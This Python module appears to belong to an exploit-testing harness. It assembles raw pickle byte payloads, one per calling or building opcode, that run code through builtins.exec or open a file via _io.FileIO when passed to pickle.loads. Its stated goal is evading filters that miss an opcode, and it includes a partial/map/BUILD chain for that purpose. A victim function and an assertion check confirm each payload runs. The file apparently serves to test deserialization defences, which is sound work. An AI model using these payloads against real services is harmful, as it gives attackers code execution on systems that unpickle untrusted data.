"""Each opcode of pickle that calls or builds.

Wants: to run code by whichever opcode a filter forgot
Against: `pickle.loads`
Since: 0.1
"""

from __future__ import annotations

import pickle

from gadgets import CODE, carried, short
from harness import MARKER, expose

EXEC = pickle.GLOBAL + b"builtins\nexec\n"
ARGUMENT = b"(" + short(CODE) + pickle.TUPLE
FILE = pickle.GLOBAL + b"_io\nFileIO\n"
OPENED = b"(" + short(MARKER) + short("w") + pickle.TUPLE

PICKLES = {
    "GLOBAL, REDUCE": EXEC + ARGUMENT + pickle.REDUCE + b".",
    "STACK_GLOBAL, REDUCE": b"\x80\x04"
    + short("builtins")
    + short("exec")
    + pickle.STACK_GLOBAL
    + ARGUMENT
    + b"R.",
    "INST": b"(" + short(CODE) + pickle.INST + b"builtins\nexec\n.",
    "OBJ": b"(" + EXEC + short(CODE) + pickle.OBJ + b".",
    # FileIO opens nothing in `__new__`; in `__init__` it does, which OBJ and REDUCE call.
    "REDUCE of a class": FILE + OPENED + pickle.REDUCE + b".",
    # A functools.partial takes what it calls as its state, and the map calls it as soon as somebody iterates:
    # BUILD makes a harmless object dangerous, NEWOBJ makes the map, and REDUCE of `list` iterates.
    "NEWOBJ, BUILD": pickle.GLOBAL
    + b"builtins\nlist\n"
    + b"("
    + pickle.GLOBAL
    + b"builtins\nmap\n"
    + b"("
    + pickle.GLOBAL
    + b"functools\npartial\n"
    + b"("
    + pickle.GLOBAL
    + b"builtins\nlen\n"
    + pickle.TUPLE
    + pickle.NEWOBJ
    + b"("
    + EXEC
    + pickle.EMPTY_TUPLE
    + pickle.EMPTY_DICT
    + b"N"
    + pickle.TUPLE
    + pickle.BUILD
    + b"("
    + short(CODE)
    + pickle.TUPLE
    + pickle.TUPLE
    + pickle.NEWOBJ
    + pickle.TUPLE
    + pickle.REDUCE
    + b".",
    "NEWOBJ_EX": pickle.PROTO
    + b"\x04"
    + pickle.GLOBAL
    + b"builtins\nlist\n"
    + b"("
    + pickle.GLOBAL
    + b"builtins\nmap\n"
    + b"("
    + EXEC
    + b"("
    + short(CODE)
    + pickle.TUPLE
    + pickle.TUPLE
    + pickle.EMPTY_DICT
    + pickle.NEWOBJ_EX
    + pickle.TUPLE
    + pickle.REDUCE
    + b".",
}


def victim(data: bytes) -> None:
    pickle.loads(data)


def peer() -> str:
    for name, data in PICKLES.items():
        found = expose(__name__, data)
        assert found.marked, f"{name}: {found}"
    return f"succeeds: {len(PICKLES)} of {len(PICKLES)} ({'; '.join(PICKLES)})"


def ours() -> str:
    return carried(*PICKLES.values())
